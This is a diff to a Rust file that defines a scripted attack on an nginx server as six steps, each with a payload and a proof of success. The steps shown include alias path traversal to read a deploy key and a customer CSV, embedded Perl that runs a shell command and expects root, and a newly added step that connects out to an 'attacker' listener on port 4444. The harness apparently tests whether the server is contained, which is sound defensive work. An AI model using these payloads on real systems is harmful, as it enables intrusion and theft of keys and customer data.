@@ -1,4 +1,4 @@
-//! The attack: five requests.
+//! The attack: six requests.
 
 use std::{
     fmt::Write as _,
@@ -8,13 +8,16 @@ use std::{
 };
 
 /// Where nginx listens.
-pub(crate) const ADDRESS: &str = "127.0.0.1:8080";
+pub(crate) const ADDRESS: &str = "127.0.0.1:80";
+
+/// Where the attacker waits for what he has broken into.
+pub(crate) const HOME: &str = "127.0.0.1:4444";
 
 /// One step, and what proves that it succeeded.
 pub(crate) struct Step {
     /// What it does, in a few words.
     pub(crate) what: &'static str,
-    /// The path that nginx would have to open, make or run.
+    /// What nginx would have to open, make, run or connect to.
     pub(crate) object: &'static str,
     request: Request,
     /// What the answer has in it if the step succeeded.
@@ -28,7 +31,7 @@ enum Request {
     Code(&'static str),
 }
 
-pub(crate) const STEPS: [Step; 5] = [
+pub(crate) const STEPS: [Step; 6] = [
     Step {
         what: "key by alias traversal, GET /files../keys/deploy.key",
         object: "/srv/keys/deploy.key",
@@ -54,6 +57,14 @@ pub(crate) const STEPS: [Step; 5] = [
         object: "/usr/bin/dash",
         request: Request::Code("my $o=`/bin/sh -c id`;defined $o&&length $o?$o:'refused'"),
         proof: "uid=0",
+    },
+    Step {
+        what: "code in nginx calls home, to 127.0.0.1:4444",
+        object: "tcp:127.0.0.1:4444",
+        request: Request::Code(
+            "socket(S,2,1,0)&&connect(S,pack('SnC4x8',2,4444,127,0,0,1))?'connected':'refused'",
+        ),
+        proof: "connected",
     },
     Step {
         what: "customers by alias traversal, GET /files../legacy/customers.csv",
